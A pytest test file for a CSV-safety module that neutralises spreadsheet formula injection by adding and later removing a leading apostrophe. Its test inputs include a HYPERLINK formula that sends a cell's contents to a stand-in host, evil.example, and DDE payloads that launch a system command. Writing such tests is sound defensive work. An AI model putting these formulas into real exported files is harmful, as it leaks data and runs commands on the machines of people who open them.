import csv
import io

import pytest

from cocreate.lib.csv_safety import neutralise, neutralise_row, restore


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A2,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",  # full-width equals sign
        "+34 600 000 000",  # a phone number too: OWASP prefers a visible apostrophe to a guess
    ],
)
def test_it_prefixes_text_a_spreadsheet_would_run(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["", "Ana Ruiz", "ana@example.org", " =1+1", "1=1", "José", "'quoted'"])
def test_it_leaves_ordinary_text_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("value", [None, 42, -3.5, True])
def test_it_passes_values_that_are_not_text_through(value):
    assert neutralise(value) == value


def test_it_only_removes_the_apostrophe_it_added():
    assert restore("'=1") == "=1"
    assert restore("'Tis the season") == "'Tis the season"
    assert restore("'") == "'"
    assert restore("''=1") == "''=1"  # typed with two apostrophes: not ours


def test_a_neutralised_csv_row_reads_back_as_inert_text():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(neutralise_row(["Ana", "=1+1", 3, "@x"]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["Ana", "'=1+1", "3", "'@x"]
